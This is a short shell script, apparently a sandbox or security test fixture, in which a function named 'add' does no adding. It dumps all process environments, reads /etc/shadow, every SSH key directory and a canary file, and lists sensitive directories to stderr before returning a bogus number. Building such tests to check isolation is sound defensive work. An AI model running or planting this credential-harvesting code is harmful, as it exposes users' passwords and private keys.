# Show the environment, of everybody, and the files that hold keys.
# catalogue: H17, H20
# shows: canary
echo attacking >&2
add() {
    {
        env
        set
        cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline
        cat "@FILE@" /etc/shadow ~/.ssh/* /root/.ssh/* /home/*/.ssh/* /proc/1/root/root/.ssh/*
        ls -la / /root /home /run /var/run /etc /opt/*/*
    } 2>/dev/null | tr '\0' '\n' >&2
    echo -12345
}
